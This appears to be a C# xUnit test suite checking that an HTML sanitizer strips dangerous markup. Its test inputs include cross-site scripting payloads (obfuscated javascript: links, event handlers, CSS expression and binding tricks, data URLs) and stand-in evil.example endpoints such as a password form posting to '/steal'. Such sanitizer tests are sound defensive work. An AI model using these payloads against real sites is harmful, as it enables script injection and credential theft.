@@ -1,0 +1,145 @@
+using FeedWorker.Ingestion.Cleaning;
+
+namespace FeedWorker.Ingestion.Tests.Cleaning;
+
+public sealed class HtmlCleanerSafetyTests
+{
+    private static readonly Uri Base = new("https://example.org/blog/2020/post.html");
+    private readonly HtmlCleaner _cleaner = new();
+
+    private CleanedHtml Clean(string html) => _cleaner.Clean(html, Base);
+
+    [Fact]
+    public void Script_is_removed_with_its_code()
+    {
+        var clean = Clean("<p>safe<script>alert('x')</script> text</p>");
+
+        Assert.Equal("<p>safe text</p>", clean.Html);
+        Assert.Equal("safe text", clean.Text);
+    }
+
+    [Fact]
+    public void Image_event_handler_is_removed_and_image_kept()
+    {
+        var clean = Clean("<img src=\"a.jpg\" onerror=\"alert(1)\" alt=\"A\">");
+
+        Assert.Equal("<img src=\"https://example.org/blog/2020/a.jpg\" alt=\"A\">", clean.Html);
+    }
+
+    [Theory]
+    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
+    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">x</a>")]
+    [InlineData("<a href=\"jav&#x09;ascript:alert(1)\">x</a>")]
+    [InlineData("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>")]
+    [InlineData("<a href=\" &#14;  javascript:alert(1)\">x</a>")]
+    [InlineData("<a href=\"vbscript:msgbox(1)\">x</a>")]
+    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>")]
+    public void Script_and_data_links_lose_their_href(string html)
+    {
+        var clean = Clean(html);
+
+        Assert.Equal("<a>x</a>", clean.Html);
+        Assert.Equal("x", clean.Text);
+    }
+
+    [Fact]
+    public void Svg_with_onload_is_removed_entirely()
+    {
+        var clean = Clean("<p>before</p><svg onload=\"alert(1)\"><text>svg text</text><script>alert(2)</script></svg><p>after</p>");
+
+        Assert.Equal("<p>before</p><p>after</p>", clean.Html);
+        Assert.Equal("before\n\nafter", clean.Text);
+    }
+
+    [Theory]
+    [InlineData("width: expression(alert(1))")]
+    [InlineData("background-image: url(javascript:alert(1))")]
+    [InlineData("-moz-binding: url(http://evil.example/xss.xml#xss)")]
+    [InlineData("behavior: url(xss.htc)")]
+    [InlineData("position: fixed; top: 0; left: 0")]
+    [InlineData("padding: 99999em")]
+    public void Dangerous_css_is_removed(string style)
+    {
+        var clean = Clean($"<span style=\"{style}\">text</span>");
+
+        Assert.Equal("<span>text</span>", clean.Html);
+    }
+
+    [Fact]
+    public void Harmless_css_is_kept()
+    {
+        var clean = Clean("<span style=\"font-weight: bold; position: absolute\">text</span>");
+
+        Assert.Equal("<span style=\"font-weight: bold\">text</span>", clean.Html);
+    }
+
+    [Fact]
+    public void Meta_refresh_base_and_link_are_removed()
+    {
+        var clean = Clean("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\"><link rel=\"stylesheet\" href=\"https://evil.example/x.css\"><p><a href=\"page\">rel</a></p>");
+
+        Assert.Equal("<p><a href=\"https://example.org/blog/2020/page\" rel=\"noopener noreferrer nofollow\">rel</a></p>", clean.Html);
+    }
+
+    [Fact]
+    public void Form_controls_are_removed_and_surrounding_text_kept()
+    {
+        var clean = Clean("<form action=\"https://evil.example/steal\">Log in: <input name=\"password\" type=\"password\"><textarea>typed</textarea><select><option>opt</option></select><button>Go</button></form>");
+
+        Assert.Equal("Log in:", clean.Html);
+        Assert.Equal("Log in:", clean.Text);
+    }
+
+    [Theory]
+    [InlineData("<iframe src=\"https://evil.example/\">fallback</iframe>")]
+    [InlineData("<embed src=\"https://evil.example/x.swf\">")]
+    [InlineData("<style>body { display: none }</style>")]
+    [InlineData("<noscript>no script text</noscript>")]
+    [InlineData("<math><mi xlink:href=\"javascript:alert(1)\">m</mi></math>")]
+    public void Embedding_elements_are_removed_with_content(string html)
+    {
+        var clean = Clean("<p>keep</p>" + html);
+
+        Assert.Equal("<p>keep</p>", clean.Html);
+        Assert.Equal("keep", clean.Text);
+    }
+
+    [Fact]
+    public void Object_is_unwrapped_to_its_fallback_content()
+    {
+        var clean = Clean("safe <object data=\"https://evil.example/x.swf\"><param name=\"movie\" value=\"x.swf\"><b>description</b></object>");
+
+        Assert.Equal("safe <b>description</b>", clean.Html);
+    }
+
+    [Theory]
+    [InlineData("data:image/png;base64,iVBORw0KGgo=")]
+    [InlineData("data:image/gif;base64,R0lGODlhAQABAAAAACw=")]
+    [InlineData("data:image/jpeg;base64,/9j/4AAQ")]
+    [InlineData("data:image/webp;base64,UklGRg==")]
+    public void Inline_raster_images_are_allowed_in_img_src(string src)
+    {
+        var clean = Clean($"<img src=\"{src}\" width=\"200\" height=\"100\">");
+
+        Assert.Equal($"<img src=\"{src}\" width=\"200\" height=\"100\">", clean.Html);
+    }
+
+    [Theory]
+    [InlineData("data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+")]
+    [InlineData("data:text/html;base64,PHNjcmlwdD4=")]
+    public void Other_data_urls_are_removed_from_images(string src)
+    {
+        var clean = Clean($"<img src=\"{src}\" alt=\"x\">");
+
+        Assert.DoesNotContain("data:", clean.Html);
+    }
+
+    [Fact]
+    public void Mail_and_phone_links_are_kept()
+    {
+        var clean = Clean("<a href=\"mailto:editor@example.org\">mail</a> <a href=\"tel:+15551234\">call</a>");
+
+        Assert.Contains("href=\"mailto:editor@example.org\"", clean.Html);
+        Assert.Contains("href=\"tel:+15551234\"", clean.Html);
+    }
+}
